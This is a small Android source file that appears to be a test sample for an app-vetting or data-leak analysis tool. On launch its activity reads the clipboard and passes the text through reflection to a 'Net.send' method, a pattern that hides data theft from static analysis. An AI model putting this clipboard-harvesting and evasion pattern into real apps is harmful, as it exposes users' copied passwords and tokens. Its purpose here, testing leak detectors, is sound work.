package org.apkvet.clip.through_reflection;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Class.forName("org.apkvet.clip.through_reflection.Net").getMethod("send", String.class).invoke(null, copied());
        } catch (ReflectiveOperationException missing) {
            finish();
        }
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
